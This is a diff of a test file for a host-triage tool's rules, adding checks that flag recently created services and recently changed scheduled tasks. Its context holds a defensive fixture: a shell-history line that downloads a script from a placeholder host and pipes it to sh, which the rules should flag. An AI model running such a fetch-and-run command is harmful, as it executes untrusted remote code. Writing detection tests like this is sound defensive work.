@@ -96,5 +96,9 @@ describe("triage rules", () => {
     expect(notableReasons("network", { Status: "ESTABLISHED", "Raddr.IP": "10.0.0.1" })).toEqual([]);
     expect(notableReasons("shell_history", { Line: "curl -s http://x/k.sh | sh" })).toHaveLength(1);
     expect(notableReasons("users", { User: "sysupd", Uid: "0" })).toEqual(["uid 0 account other than root"]);
+    const now = Date.parse("2026-11-25T12:00:00Z");
+    expect(notableReasons("services", { Name: "UpdSvc", PathName: "C:\\Program Files\\Upd\\upd.exe", Created: "2026-11-20T08:15:30Z" }, now)).toEqual(["created 2026-11-20 (5 days ago)"]);
+    expect(notableReasons("services", { Name: "Spooler", PathName: "C:\\Windows\\System32\\spoolsv.exe", Created: "2026-01-10T00:00:00Z" }, now)).toEqual([]);
+    expect(notableReasons("scheduled", { Command: "backup.sh", Mtime: "2026-11-24T00:00:00Z" }, now)).toEqual(["changed 2026-11-24 (2 days ago)"]);
   });
 });
